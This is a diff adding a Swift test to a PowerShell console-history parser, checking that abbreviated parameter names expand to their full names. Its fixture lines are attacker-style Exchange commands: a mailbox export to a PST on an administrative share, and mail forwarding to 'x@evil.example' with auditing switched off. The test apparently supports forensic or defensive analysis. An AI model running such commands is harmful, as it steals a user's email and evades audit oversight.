@@ -48,6 +48,21 @@ struct PowerShellTests {
     #expect(reading.records[3].cmdlet == nil && reading.records[3].target == nil)
   }
 
+  @Test(
+    "a parameter may be typed by any beginning that no other has, and has its whole name; what may be two stays as typed"
+  )
+  func beginnings() async throws {
+    let lines = [
+      "New-MailboxExportRequest -Mailb ann -file \\\\ex01\\c$\\a.pst -ContentFilter {Body -like 'x'} -inc '#Inbox#' -Content x",
+      "Set-Mailbox ann -forwardings x@evil.example -AuditE:$false -Forwarding y", "Get-Service -n x",
+    ]
+    let records = try await Reading.of(lines.joined(separator: "\n") + "\n", by: ConsoleHistoryReader.self).records
+    let names = records.map { $0.cmdlet?.parameters.map(\.name) ?? [] }
+    #expect(names[0] == ["Mailbox", "FilePath", "ContentFilter", "IncludeFolders", "Content"])
+    #expect(names[1].prefix(4) == ["Identity", "ForwardingSmtpAddress", "AuditEnabled", "Forwarding"])
+    #expect(names[2] == ["n"])
+  }
+
   @Test("a command entered in several lines is one, in a transcript and in a history")
   func severalLines() async throws {
     let transcript = Self.transcript.replacing(
